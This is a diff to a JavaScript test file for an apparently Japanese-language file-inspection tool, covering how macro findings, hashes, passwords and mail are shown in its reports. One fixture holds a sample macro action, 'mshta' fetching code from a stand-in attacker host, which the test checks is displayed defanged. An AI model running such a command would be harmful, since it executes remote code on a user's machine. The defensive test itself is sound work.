@@ -149,7 +149,7 @@ test("a part is told as the document it belongs to, with what the document lies 
   assert.equal(article.byClass("verdict-inner")[0].textContent, trail);
   const item = article.byClass("finding").find((/** @type {any} */ li) => li.attributes["data-finding"] === "vba.auto-run");
   assert.equal(item.byTag("dd")[0].textContent, `${trail}マクロ付き Excel ブック`);
-  assert.equal(item.byClass("evidence-place")[0].textContent, "xl/vbaProject.bin › VBA/ThisWorkbook3 行目");
+  assert.equal(item.byClass("evidence-place")[0].textContent, "xl/vbaProject.bin › VBA/ThisWorkbook 3 行目");
   const without = article.byClass("finding").find((/** @type {any} */ li) => li.attributes["data-finding"] === "vba.present");
   assert.equal(without.byClass("evidence-place")[0].textContent, "xl/vbaProject.bin");
   assert.ok(article.byClass("not-looked")[0].textContent.includes(`${trail}マクロ付き Excel ブックxl/vbaProject.bin`));
@@ -343,6 +343,64 @@ for (const code of languages) {
     assert.ok(!text.includes("\u202E"));
     assert.ok(!/https?:\/\//.test(text));
     assert.ok(!text.includes("Shell"), "no bytes of the file");
+  });
+}
+
+test("the copied report has what an analyst decides by: the gravest first, lines, hashes inside, commands, what was not checked, the time", () => {
+  const report = nested();
+  report.artifacts[2].sha256 = "cd".repeat(32);
+  report.artifacts[4].sha256 = "ef".repeat(32);
+  report.checks = { kinds: "done", codes: "not-done", macros: "partly", mail: "not-applicable" };
+  report.story = [{ step: "start", artifact: 3, detail: "Workbook_Open", at: { path: "VBA/ThisWorkbook", line: 3, offset: null, excerpt: "x" } },
+    { step: "run", artifact: 3, detail: "calc", at: { path: "VBA/ThisWorkbook", line: 4, offset: null, excerpt: "x" } }];
+  const act = { artifact: 3, kind: "run", automatic: true, trigger: "Workbook_Open", decoded: false, at: { path: "VBA/Module1", line: 2, offset: null, excerpt: "x" } };
+  report.actions = [{ ...act, detail: "calc" }, { ...act, detail: "mshta https://evil.example/x", decoded: true }, { ...act, detail: "y".repeat(2001), automatic: false }];
+  report.more_actions = 7;
+  const words = wordsOf("ja");
+  const text = reportText(report, words, defaults(), "2026-11-22 17:55:03 +09:00");
+  const has = (/** @type {string} */ part) => assert.ok(text.includes(part), `${part}\n${text}`);
+  has("調べた日時：2026-11-22 17:55:03 +09:00");
+  has("[xl/vbaProject.bin › VBA/ThisWorkbook 3 行目]");
+  assert.ok(text.indexOf("(開かない) [type.program]") > 0 && text.indexOf("(開かない) [type.program]") < text.indexOf("(確認が必要) [vba.auto-run]"), "gravest first");
+  has(`[VBA/ThisWorkbook 3 行目]`);
+  assert.ok(text.indexOf("ef".repeat(32)) < text.indexOf("cd".repeat(32)), "hashes: the gravest first, a document by its parts");
+  has(`${"cd".repeat(32)} 請求書.xlsm（invoice.zip`);
+  assert.equal(text.split("calc").length, 2, "what the steps tell is not told again");
+  has("mshta hxxps://evil[.]example/x");
+  has("[VBA/Module1 2 行目]");
+  has(`${"y".repeat(2000)}…`);
+  has(words.page("acts-more", { n: "7" }));
+  has("画像の中の QR コード: 調べていません");
+  assert.ok(!text.includes("メールの差出人"));
+  // Long lists say how much they leave out.
+  report.findings = Array.from({ length: 25 }, () => report.findings[0]);
+  assert.ok(reportText(report, words, defaults()).includes(words.text(["report", "more"], { n: "5" })));
+});
+
+test("the paper names the file, the gravest inside and the time", () => {
+  const report = nested();
+  for (const artifact of report.artifacts) artifact.sha256 = String(artifact.id).repeat(64);
+  const text = renderReport(report, wordsOf("ja"), defaults(), [], null, [], "2026-11-22 17:55:03 +09:00").byClass("identity")[0].textContent;
+  for (const part of ["0".repeat(64), "4".repeat(64), "2".repeat(64), "2026-11-22 17:55:03 +09:00"]) assert.ok(text.includes(part), part);
+  assert.ok(!text.includes("1".repeat(64)), "an archive in between is not the gravest");
+});
+
+test("the place for the password comes before the findings; what was typed last is still there", () => {
+  const report = golden("zip-locked");
+  const article = renderReport(report, wordsOf("ja"), defaults(), [], { tried: 1, typed: "２０２６", use: () => {} });
+  const order = article.children.map((/** @type {any} */ node) => node.attributes.class);
+  assert.ok(order.indexOf("unlock") > 0 && order.indexOf("unlock") < order.indexOf("found"), String(order));
+  assert.equal(article.byTag("textarea")[0].textContent, "２０２６");
+  assert.equal(render(report).byClass("unlock").length, 0, "none in what is saved");
+});
+
+for (const code of languages) {
+  test(`${code}: a mail that was not looked into leads to its attachment`, () => {
+    const says = catalogue(code).page["mail-unread"];
+    assert.equal(render(golden("type-eml"), code).byClass("mail-unread")[0].textContent, says);
+    const read = golden("type-eml");
+    read.artifacts[0].status = "inspected";
+    for (const report of [read, golden("zip-locked")]) assert.equal(render(report, code).byClass("mail-unread").length, 0);
   });
 }
 
